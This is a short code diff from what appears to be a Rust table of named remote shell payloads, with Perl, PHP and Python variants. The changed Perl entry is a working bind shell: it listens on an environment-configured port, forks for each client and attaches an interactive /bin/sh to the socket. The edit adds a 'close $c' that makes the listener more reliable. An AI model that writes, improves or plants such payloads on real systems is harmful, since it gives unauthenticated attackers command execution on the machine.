@@ -44,7 +44,7 @@ socketserver.ForkingTCPServer((os.environ["H"],int(os.environ["P"])),Shell).serv
         "perl_accept",
         &["perl"],
         r#"perl -MIO::Socket -e '$l=IO::Socket::INET->new(LocalAddr=>$ENV{H},LocalPort=>$ENV{P},Listen=>1,ReuseAddr=>1);
-while($c=$l->accept){ if(!fork){ open STDIN,"<&",$c; open STDOUT,">&",$c; open STDERR,">&",$c; exec "/bin/sh","-i" } }'"#,
+while($c=$l->accept){ if(!fork){ open STDIN,"<&",$c; open STDOUT,">&",$c; open STDERR,">&",$c; exec "/bin/sh","-i" } close $c }'"#,
     ),
     (
         "php_proc_open",
